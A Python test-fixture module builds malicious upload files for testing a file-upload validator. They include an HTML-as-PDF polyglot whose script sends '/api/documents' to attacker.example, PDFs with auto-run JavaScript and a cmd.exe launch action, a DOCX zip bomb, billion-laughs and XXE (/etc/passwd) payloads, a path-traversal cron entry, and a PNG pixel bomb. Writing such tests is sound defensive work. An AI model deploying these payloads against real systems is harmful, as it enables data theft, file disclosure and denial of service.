"""Hostile files for the upload tests, each built in memory in a few milliseconds.

Every builder returns bytes that the old magic-byte check accepted: a PDF header with nothing behind
it, an HTML page that starts with ``%PDF-``, PDFs carrying JavaScript or an embedded file, a 2 GiB zip
bomb dressed as a DOCX (its compressed stream is ~2 MB and is never inflated by a correct check),
XML entity tricks (billion laughs, XXE) and a macro-carrying DOCX, plus image bombs.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

from lienthong.testing.builders import tiny_pdf

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def document_xml(body: str = "<w:p><w:r><w:t>Van ban</w:t></w:r></w:p>", *, doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
            f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>')


def docx(parts: dict[str, bytes | str] | None = None, *, document: str | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("word/document.xml", document if document is not None else document_xml())
        for name, content in (parts or {}).items():
            zf.writestr(name, content)
    return buf.getvalue()


# --- PDF ---------------------------------------------------------------------------------------------

def header_only_pdf() -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


def html_as_pdf() -> bytes:
    return (b"%PDF-1.4\n<!doctype html><html><body><script>fetch('/api/documents').then(r => r.text())"
            b".then(t => navigator.sendBeacon('https://attacker.example/', t))</script></body></html>\n")


def _pdf_with(change) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(tiny_pdf("Van ban co ma doc")))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def open_action_js_pdf() -> bytes:
    """A catalog /OpenAction running JavaScript when the file is opened."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def add(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")})
    return _pdf_with(add)


def names_js_pdf() -> bytes:
    """Document-level JavaScript in the /Names /JavaScript tree (pypdf's add_open_action)."""
    from pypdf.actions import JavaScript

    return _pdf_with(lambda writer: writer.add_open_action(JavaScript("this.print({bUI:false});")))


def launch_annotation_pdf() -> bytes:
    """A link annotation whose action launches a program."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

    def add(writer):
        annotation = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)]),
            NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                                NameObject("/F"): TextStringObject("cmd.exe")})}))
        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])
    return _pdf_with(add)


def embedded_file_pdf() -> bytes:
    return _pdf_with(lambda writer: writer.add_attachment("payload.exe", b"MZ" + b"\x00" * 64))


def uri_link_pdf() -> bytes:
    """A plain web link: not active content, accepted."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    def add(writer):
        annotation = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                                NameObject("/URI"): TextStringObject("https://haugiang.gov.vn/")})}))
        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])
    return _pdf_with(add)


def encrypted_pdf(user_password: str) -> bytes:
    return _pdf_with(lambda writer: writer.encrypt(user_password=user_password, owner_password="chu-so-huu",
                                                   algorithm="AES-128"))


# --- ZIP containers -----------------------------------------------------------------------------------

def _zip_raw(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A ZIP from (name, stored bytes, method, crc, declared size) tuples, written by hand so the
    declared size can be anything."""
    out = io.BytesIO()
    central = []
    for name, raw, method, crc, size in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(raw), size,
                              len(encoded), 0) + encoded + raw)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(raw),
                                   size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush(), zlib.crc32(data), len(data)


@cache
def zip_bomb_docx(*, gib: int = 2, lie_about_size: bool = False) -> bytes:
    """A DOCX whose ``word/media/image1.png`` inflates to ``gib`` GiB of zeros (about 2 MB compressed).

    The deflate stream is one fully flushed 1 MiB block of zeros repeated, so building it costs a
    single 1 MiB compression. With ``lie_about_size`` the headers declare 10 kB instead."""
    chunk = 1 << 20
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(b"\x00" * chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    count = gib * 1024
    raw = block * count + b"\x03\x00"  # a final, empty fixed-Huffman block ends the stream
    crc = 0
    zeros = b"\x00" * chunk
    if not lie_about_size:
        for _ in range(count):
            crc = zlib.crc32(zeros, crc)
    size = 10_000 if lie_about_size else count * chunk
    entries = [("[Content_Types].xml", *_deflated(CONTENT_TYPES.encode())),
               ("word/document.xml", *_deflated(document_xml().encode())),
               ("word/media/image1.png", raw, crc, size)]
    return _zip_raw([(name, data, 8, c, s) for name, data, c, s in entries])


def billion_laughs_docx() -> bytes:
    levels = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    doctype = "<!DOCTYPE w:document [" + "".join(levels) + "]>"
    return docx(document=document_xml("<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", doctype=doctype))


def xxe_docx() -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return docx(document=document_xml("<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", doctype=doctype))


def macro_docx() -> bytes:
    return docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 100})


def traversal_docx() -> bytes:
    return docx({"../../etc/cron.d/x": "* * * * * root sh"})


# --- Images ------------------------------------------------------------------------------------------

def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *, pixels: bytes | None = None) -> bytes:
    """A greyscale PNG header of any size; the pixel data is one short row unless given."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(pixels if pixels is not None else b"\x00" * (width + 1))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", data)
            + _png_chunk(b"IEND", b""))


def pixel_bomb_png() -> bytes:
    return png(60_000, 60_000, pixels=b"\x00" * 61)


def valid_png() -> bytes:
    width, height = 40, 30
    return png(width, height, pixels=b"".join(b"\x00" + bytes(range(width)) for _ in range(height)))


def truncated_png() -> bytes:
    return valid_png()[:40]
